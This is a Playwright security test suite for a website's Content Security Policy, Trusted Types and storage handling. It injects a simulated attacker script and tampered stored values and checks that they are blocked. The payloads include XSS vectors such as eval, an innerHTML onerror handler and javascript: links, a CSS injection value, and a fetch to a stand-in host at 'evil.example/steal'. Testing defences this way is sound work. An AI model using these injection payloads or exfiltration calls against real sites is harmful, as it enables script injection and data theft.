import { expect, test, type Page } from '@playwright/test';
import { poisoned, pollution } from '../pages/pollution.ts';
import { startOwnSite, type OwnSite } from '../pages/own-site.ts';
import { DEMO, Site } from '../pages/site.ts';
import { ThemePanel } from '../pages/theme-panel.ts';

/** Attempts of an attacker's script in the page, each with its expected result. */
const ATTEMPTS = `
const ran = [];
window.attackRan = (what) => ran.push(what);
const refused = {};
const attempt = (what, work) => {
  try { work(); refused[what] = false; } catch (error) { refused[what] = error.constructor.name; }
};
const violations = [];
document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective));
setTimeout(() => {
  const box = document.body.appendChild(document.createElement('div'));
  const script = () => document.body.appendChild(document.createElement('script'));
  attempt('eval', () => eval('attackRan("eval")'));
  attempt('Function', () => new Function('attackRan("Function")')());
  attempt('innerHTML', () => { box.innerHTML = '<img src=x onerror="attackRan(1)">'; });
  attempt('outerHTML', () => { box.outerHTML = '<b>x</b>'; });
  attempt('insertAdjacentHTML', () => box.insertAdjacentHTML('beforeend', '<b>x</b>'));
  attempt('document.write', () => document.write('<b>x</b>'));
  attempt('srcdoc', () => { document.createElement('iframe').srcdoc = '<script>parent.attackRan(1)</' + 'script>'; });
  attempt('DOMParser', () => new DOMParser().parseFromString('<b>x</b>', 'text/html'));
  attempt('script text', () => { script().text = 'attackRan("text")'; });
  attempt('script address', () => { script().src = 'https://evil.example/x.js'; });
  attempt('own policy', () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
  attempt('default policy', () => trustedTypes.createPolicy('default', { createHTML: (text) => text }));
  attempt('timer', () => setTimeout('attackRan("timer")', 0));
  attempt('inline handler', () => box.setAttribute('onclick', 'attackRan("handler")'));
  script().append('attackRan("text node")');
  const link = box.appendChild(document.createElement('a'));
  link.href = 'javascript:attackRan("address")';
  link.click();
  const picture = box.appendChild(new Image());
  picture.src = 'https://evil.example/x.png';
  const base = document.head.appendChild(document.createElement('base'));
  base.href = 'https://evil.example/';
  const style = document.head.appendChild(document.createElement('style'));
  style.append('body { background: url(https://evil.example/x) }');
  fetch('https://evil.example/steal').catch(() => null);
  setTimeout(() => { window.attackResults = { ran, refused, violations: [...new Set(violations)] }; }, 500);
}, 0);
`;

interface Results {
  ran: string[];
  refused: Record<string, string | false>;
  violations: string[];
}

/** Records the requests to an attacker’s server, which answers every request. */
async function watchOutside(page: Page): Promise<string[]> {
  const reached: string[] = [];
  await page.route('https://evil.example/**', async (route) => {
    reached.push(route.request().url());
    await route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: '' });
  });
  return reached;
}

/**
 * Inserts the attempts into a script of the site itself: a script from the console is not subject to the policy.
 *
 * Not into one of the first scripts, whose integrity the page declares.
 */
const letAttackerIn = (page: Page): Promise<unknown> =>
  page.route('**/assets/theme.en-*.js', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()) + ATTEMPTS });
  });

/** Counts the violations of the page’s policy. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const found: string[] = [];
    (window as unknown as { violations: string[] }).violations = found;
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sourceFile, blockedURI }) =>
      found.push(`${effectiveDirective} ${blockedURI} ${sourceFile}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
}

test('content of an attacker in a page does not run, load or send anything', async ({ page }) => {
  const outside = await watchOutside(page);
  await letAttackerIn(page);
  await page.goto('/about-us');
  await page.mouse.move(100, 100);
  const results = await page
    .waitForFunction(() => (window as unknown as { attackResults?: Results }).attackResults)
    .then((handle) => handle.jsonValue() as Promise<Results>);

  expect(results.ran).toEqual([]);
  expect(Object.entries(results.refused).filter(([, error]) => error === false)).toEqual([]);
  for (const directive of ['require-trusted-types-for', 'script-src-elem', 'img-src', 'connect-src', 'base-uri']) {
    expect(results.violations).toContain(directive);
  }
  expect(outside).toEqual([]);
});

test('the site itself needs nothing that the policy refuses', async ({ page }) => {
  const violations = await watchViolations(page);
  const site = new Site(page);
  const panel = new ThemePanel(page);
  await site.open('/about-us');
  await site.signIn();
  await panel.open();
  expect(await violations()).toEqual([]);
  for (const path of ['/', '/contact-us', '/designingtool', '/hi']) {
    await site.open(path);
    expect(await violations()).toEqual([]);
  }
  const stored = await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }));
  expect(stored).not.toContain(DEMO.password);
});

test('a hostile value in the browser’s copy of the theme fetches nothing and leaves the rest of the theme', async ({
  page,
}) => {
  const outside = await watchOutside(page);
  const site = new Site(page);
  const panel = new ThemePanel(page);
  await site.open('/about-us');
  await panel.open();
  await panel.openSection('Navbar');
  await panel.setColor('navbar-light-bg', '#fde68a');
  await panel.save();
  const tampered = await page.evaluate(() => {
    const own = Object.keys(localStorage).filter((key) =>
      localStorage.getItem(key)?.includes('rgba(253, 230, 138, 1)'),
    );
    for (const key of own) {
      const text = localStorage.getItem(key) ?? '';
      localStorage.setItem(
        key,
        text.replaceAll('rgba(253, 230, 138, 1)', 'red;} * { background: url(https://evil.example/x) }'),
      );
    }
    return own.length;
  });
  expect(tampered).toBeGreaterThan(0);
  await site.open('/about-us');
  await panel.open();
  expect(await site.variable('--navbar-light-bg')).not.toContain('evil');
  expect(outside).toEqual([]);
});

test('stored values cannot change the prototype of objects', async ({ page }) => {
  // A fixed response, because other tests save themes with this account.
  const stored = { id: 't-9', json: '{}', revision: 1, mode: 'dark', savedAt: '2026-01-01T00:00:00.000Z' };
  await page.route('**/theme/getUserThemeJson/**', (route) => route.fulfill({ json: { status: 1, result: stored } }));
  const site = new Site(page);
  const panel = new ThemePanel(page);
  await site.open('/about-us');
  await site.signIn();
  await expect.poll(() => site.mode()).toBe('dark');
  await site.open('/designing-tool/multi-page-forms');
  await expect.poll(() => site.mode()).toBe('dark');
  const kept = await page.evaluate(() => ({
    local: Object.entries({ ...localStorage }) as [string, string][],
    session: Object.entries({ ...sessionStorage }) as [string, string][],
  }));
  const isMap = ([, text]: [string, string]) => /^[{[]/.test(text);
  const poison = (entries: [string, string][]) => entries.filter(isMap).map(([key, text]) => [key, poisoned(text)]);
  const entries = { local: poison(kept.local), session: poison(kept.session) };
  expect(entries.local.length).toBeGreaterThan(0);
  expect(entries.session.length).toBeGreaterThan(0);
  await page.evaluate(({ local, session }) => {
    for (const [key, text] of local) localStorage.setItem(key!, text!);
    for (const [key, text] of session) sessionStorage.setItem(key!, text!);
  }, entries);

  for (const path of ['/about-us', '/designing-tool/multi-page-forms']) {
    await site.open(path);
    await panel.open();
    expect(await pollution(page)).toEqual([]);
  }
  expect(await site.mode()).toBe('dark');
  expect(site.problems).toEqual([]);
});

test.describe('what the policy refuses', () => {
  let server: OwnSite;
  test.beforeEach(async () => {
    server = await startOwnSite();
  });
  test.afterEach(() => server.stop());

  /** Returns the directives that browsers have reported to the server so far. */
  const reported = () =>
    server
      .output()
      .split('\n')
      .filter((line) => line.startsWith('{'))
      .flatMap((line) => (JSON.parse(line) as { report?: { directive: string } }).report?.directive ?? []);

  test('is reported to the server in an attack, and never in normal use', async ({ page }) => {
    const site = new Site(page);
    const panel = new ThemePanel(page);
    for (const path of ['/hi', '/contact-us', '/designingtool', '/about-us'])
      await site.open(`${server.origin}${path}`);
    await site.signIn();
    await panel.open();
    await site.open(`${server.origin}/`);
    // Reports keep their order: one caused by the use would have arrived before this one.
    await page.evaluate(() => void (document.body.appendChild(new Image()).src = 'https://evil.example/first.png'));
    await expect.poll(reported).toEqual(['img-src']);

    await letAttackerIn(page);
    await page.goto(`${server.origin}/about-us`);
    await page.mouse.move(100, 100);
    await expect.poll(reported).toEqual(expect.arrayContaining(['require-trusted-types-for', 'script-src-elem']));
    // The server stops next; errors of open requests are ignored.
    await page.unrouteAll({ behavior: 'ignoreErrors' });
  });
});
